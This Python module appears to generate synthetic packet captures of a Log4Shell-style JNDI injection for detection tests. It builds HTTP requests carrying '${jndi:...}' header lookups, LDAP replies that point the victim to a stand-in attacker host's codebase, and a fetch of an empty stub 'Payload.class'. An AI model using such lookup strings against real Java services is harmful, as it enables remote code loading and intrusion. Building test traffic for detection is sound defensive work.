# SPDX-License-Identifier: GPL-2.0-or-later
"""What the steps of an attack, and what only looks like them, are on the wire: captures for stories.py and orders.py.
Standard library only."""
import io
import struct
import zipfile

import wires as w
from wires import ber, pcapfile, wire

SECOND = 10**9
VICTIM, OTHER, RESOLVER = "10.0.0.1", "10.0.0.2", "10.0.0.53"  # at home
EVIL, SCANNER = "203.0.113.9", "198.51.100.7"


def text(value):
    return ber(4, value.encode())


def jdk_bind():
    return bytes.fromhex("300c020101600702010304008000")


def jdk_search(base):
    """As the JDK's LDAP provider asks for a name: scope base, all attributes, ManageDsaIT."""
    search = (text(base) + ber(10, b"\0") + ber(10, b"\3") + ber(2, b"\0") + ber(2, b"\0") + ber(1, b"\0") + ber(0x87, b"objectClass") +
              ber(0x30))
    return ber(0x30, ber(2, b"\2"), ber(0x63, search), ber(0xa0, ber(0x30, text("2.16.840.1.113730.3.4.2"))))


def done(number, tag):
    return ber(0x30, ber(2, bytes([number])), ber(tag, b"\x0a\x01\0\x04\0\x04\0"))


def reference(base, codebase, name="Payload"):
    """The answer that names a class, and where it lies (RFC 2713)."""
    rows = (("objectClass", "javaNamingReference"), ("javaClassName", name), ("javaFactory", name), ("javaCodeBase", codebase))
    attributes = b"".join(ber(0x30, text(key), ber(0x31, text(value))) for key, value in rows if value)
    return ber(0x30, ber(2, b"\2"), ber(0x64, text(base), ber(0x30, attributes)))


def java_class(name, words=()):
    """The least that is a class file (JVMS 4.1): two names, no member; and words in its constants."""
    def utf8(value):
        return b"\1" + w.sized(2, value.encode())
    pool = utf8(name) + b"\7\0\1" + utf8("java/lang/Object") + b"\7\0\3"
    for number, word in enumerate(words):
        pool += utf8(word) + b"\x08" + (5 + 2 * number).to_bytes(2, "big")
    return b"\xca\xfe\xba\xbe\0\0\0\x34" + struct.pack("!H", 5 + 2 * len(words)) + pool + struct.pack("!7H", 0x21, 2, 4, 0, 0, 0, 0)


def java_object(name="java.util.Date"):
    """An object without fields, serialized: aced0005, its class, the end of its data (specification, section 6.4)."""
    return b"\xac\xed\0\5sr" + w.sized(2, name.encode()) + b"hj\x81\1\x4b\x59\x74\x19\2\0\0xp"


def java_archive(name):
    """A JAR with a manifest and one class."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for path, body in (("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\n\r\n"), (name + ".class", java_class(name))):
            archive.writestr(zipfile.ZipInfo(path), body)
    return packed.getvalue()


class Tale(w.Capture):
    """Says who did what; time passes by wait() alone, and a millisecond with each packet."""

    def wait(self, seconds):
        self.when += int(seconds * SECOND)

    def put(self, sender, proto, payload):
        src, dst = self.ends(sender)
        if ":" not in src:
            super().put(sender, proto, payload)
            return
        frame = bytes(12) + b"\x86\xdd" + wire.ipv6(src, dst, proto, payload)
        self.frames.append((self.when, frame, len(frame)))
        self.when += w.STEP

    def between(self, client, server):
        self.client, self.server = client, server
        return self

    # --- the attacker ---

    def lookup(self, name, victim=VICTIM, sender=SCANNER, echo=False, port=8080, header="X-Api"):
        """A request with the lookup in a header; echo: an error page that repeats it."""
        said = "${jndi:%s}" % name if "${" not in name[:2] else name
        page = "no such thing: %s" % said if echo else "ok"
        request = "GET / HTTP/1.1\r\nHost: app.example\r\n%s: %s\r\n\r\n" % (header, said)
        answer = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s" % (len(page), page)
        self.between(sender, victim).tcp(port, [("c", request.encode()), ("s", answer.encode())])
        self.wait(0.2)

    # --- whoever calls ---

    def referred(self, url, client=VICTIM, server=EVIL, port=1389):
        """The JDK asks for an entry, and is sent to another server."""
        answer = ber(0x30, ber(2, b"\2"), ber(0x73, text(url)))
        self.between(client, server).tcp(port, [("c", jdk_bind()), ("s", done(1, 0x61)), ("c", jdk_search("a")),
                                                ("s", answer + done(2, 0x65))])
        self.wait(0.1)

    def search(self, base="a", client=VICTIM, server=EVIL, port=1389, codebase=None):
        """The JDK asks for an entry, and gets one only if there is a codebase to name."""
        answer = reference(base, codebase) if codebase else b""
        self.between(client, server).tcp(port, [("c", jdk_bind()), ("s", done(1, 0x61)), ("c", jdk_search(base)),
                                                ("s", answer + done(2, 0x65))])
        self.wait(0.1)

    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=(), body=None, host=None, status="200 OK"):
        body = body or java_class("Payload", words)
        head = "HTTP/1.0 " + status + "\r\nContent-Type: application/java-vm\r\nContent-Length: %d\r\n\r\n" % len(body)
        host = host or "%s:%d" % ("[%s]" % server if ":" in server else server, port)
        path = path.replace("%s", host)
        request = "GET %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s\r\nAccept: */*\r\n\r\n" % (path, agent, host)
        self.between(client, server).tcp(port, [("c", request.encode()), ("s", head.encode() + body)])
        self.wait(0.1)

    def sent_on(self, where, client=VICTIM, server=EVIL, port=8888):
        """The codebase has the class elsewhere."""
        request = "GET /Payload.class HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (server, port)
        answer = "HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n" % where
        self.between(client, server).tcp(port, [("c", request.encode()), ("s", answer.encode())])
        self.wait(0.1)

    def missing(self, client=VICTIM, server=EVIL, port=8888, path="/Payload.class"):
        """A class is asked for that is not there."""
        request = "GET %s HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (path, server, port)
        self.between(client, server).tcp(port, [("c", request.encode()), ("s", b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")])
        self.wait(0.1)

    def browse(self, client=VICTIM, server=EVIL, port=1389):
        """An analyst's wget: another protocol at that place."""
        self.between(client, server).tcp(port, [("c", b"GET / HTTP/1.1\r\nUser-Agent: Wget/1.21\r\nHost: x\r\n\r\n"),
                                                ("s", b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")])
        self.wait(0.1)

    def hello(self, client=VICTIM, server=EVIL, port=4444):
        """A connection in which nobody speaks."""
        self.between(client, server).tcp(port, [])
        self.wait(0.1)

    def syn(self, client, server, port, again):
        self.between(client, server)
        self.port += 1
        for _ in range(again):
            self.put("c", wire.TCP, wire.tcp(client, server, self.port, port, 1000, 0, "S"))

    def refused(self, client=VICTIM, server=EVIL, port=1389):
        self.syn(client, server, port, 1)
        self.put("s", wire.TCP, wire.tcp(server, client, port, self.port, 0, 1001, "RA"))
        self.wait(0.1)

    def silent(self, client=VICTIM, server=EVIL, port=1389):
        """Nobody answers; whoever asks tries thrice."""
        self.syn(client, server, port, 3)
        self.wait(0.1)

    def asks(self, name, client=VICTIM, answer=None, server=RESOLVER, kind=1, ttl=60):
        query = w.dns_query(name.encode(), kind)
        data = wire.packed(answer) if answer else b""
        back = w.dns_answer(name.encode(), kind, data, ttl) if answer else query[:2] + b"\x81\x83" + query[4:]
        self.between(client, server).udp(53, [("c", query), ("s", back)])
        self.wait(0.1)

    # --- files ---

    def files(self, folder, name, cuts):
        """One capture for each part between two of the places (counts of frames) where it is cut."""
        paths = []
        for number, (start, end) in enumerate(zip([0] + cuts, cuts + [len(self.frames)])):
            paths.append(folder / ("%s-%d.pcap" % (name, number)))
            paths[-1].write_bytes(pcapfile.pcap(self.frames[start:end], pcapfile.ETHERNET))
        return paths
